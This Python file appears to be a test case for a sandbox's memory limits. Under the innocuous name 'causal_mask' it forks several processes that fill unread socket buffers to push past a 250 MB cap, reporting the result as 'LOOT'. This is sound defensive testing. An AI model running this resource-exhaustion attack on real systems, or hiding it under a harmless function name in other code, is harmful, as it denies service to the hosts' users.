"""Fills memory with what lies unread in sockets, which belongs to no process's own pages, in several processes at once.

levels: bubblewrap
memory_mb: 250
checks: test_the_mask_fits_every_length
user: not promised: about 55 MB for each process
process: not promised: about 55 MB for each process
again: loopback
outcomes: out_of_memory failed
"""

import contextlib
import os
import socket
import time

if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
    raise SystemExit("this attack runs inside a sandbox only")


def fill():
    """Return how many bytes this process has put where nobody reads them."""
    kept, sent = [], 0
    with contextlib.suppress(OSError):
        while True:
            pair = socket.socketpair()
            kept.append(pair)
            for end in pair:
                end.setblocking(False)
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                with contextlib.suppress(BlockingIOError):
                    while True:
                        sent += end.send(b"x" * 65_536)
    return kept, sent


def causal_mask(*args, **kwargs):
    read, write = os.pipe()
    for _ in range(9):  # some hundred megabytes, no more, should no limit hold
        if os.fork() == 0:
            kept, sent = fill()
            os.write(write, sent.to_bytes(8, "little"))
            time.sleep(60)
    total = sum(int.from_bytes(os.read(read, 8), "little") for _ in range(9))
    time.sleep(0.2)
    print(f"{'LOOT' if total > 300 << 20 else 'sent'}: {total >> 20} MB where 250 are allowed")
